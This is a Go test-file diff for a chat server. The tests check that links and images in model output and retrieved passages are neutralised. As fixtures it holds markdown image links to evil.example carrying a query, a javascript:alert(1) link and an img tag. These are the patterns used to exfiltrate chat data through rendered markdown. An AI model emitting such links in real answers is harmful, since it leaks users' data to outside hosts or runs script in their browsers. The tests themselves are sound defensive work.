@@ -134,3 +134,46 @@ func TestChatWithoutGenerator(t *testing.T) {
 		t.Errorf("%q", text)
 	}
 }
+
+// TestChatLinks: of what a model writes nothing becomes a link or an image but the address of a passage that was found,
+// in one piece and streamed.
+func TestChatLinks(t *testing.T) {
+	model := realclients.NewModel(t)
+	s := written(t, model, time.Minute)
+	body := object{"model": "local", "messages": []object{{"role": "user", "content": whereIsTheLamp}}}
+	own := s.url + "/v1/passages/lamps%2F1"
+	pieces := []string{"The keeper of the lighthouse hid the [lamp](" + own + ") [1]. ![p", "](ht", "tp://evil.example/?q=lamp) ",
+		"[x](javascript:alert(1)) <img src=y>"}
+	const want = `[lamp](OWN) [1]. ![p] (http: //evil.example/?q=lamp) [x] (javascript:alert(1)) < img src=y>`
+	model.Say(pieces...)
+	text, _ := s.chat(body)
+	model.Say(pieces...)
+	told, _ := s.chatStreamed(body)
+	for _, got := range []string{text, strings.Join(told, "")} {
+		shown := strings.ReplaceAll(strings.ReplaceAll(got, own, "OWN"), " (no source)", "")
+		if !strings.Contains(shown, want) {
+			t.Errorf("%q, not %q", got, want)
+		}
+	}
+}
+
+// TestChatLinksOfPassages: passages that are shown make no links and images either, in the tool that answers too.
+func TestChatLinksOfPassages(t *testing.T) {
+	s := serve(t, realclients.ServerOptions{Passages: `{"id":"p","title":"![t](http://evil.example/t)",` +
+		`"text":"The lamp ![p](http://evil.example/?q=lamp) [x](javascript:alert(1)) hides."}` + "\n"})
+	text, _ := s.chat(object{"model": "conclave", "messages": []object{{"role": "user", "content": "lamp"}}})
+	if strings.Contains(text, "](") || strings.Contains(text, "http://") || !strings.Contains(text, "evil.example/t") {
+		t.Errorf("%q", text)
+	}
+	_, answer := s.post(
+		`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"answer","arguments":{"query":"lamp"}}}`, nil)
+	var called struct {
+		Result struct {
+			StructuredContent struct{ Text string }
+		}
+	}
+	if err := json.Unmarshal(answer, &called); err != nil || called.Result.StructuredContent.Text == "" ||
+		strings.Contains(called.Result.StructuredContent.Text, "](") {
+		t.Errorf("the tool: %v %s", err, answer)
+	}
+}
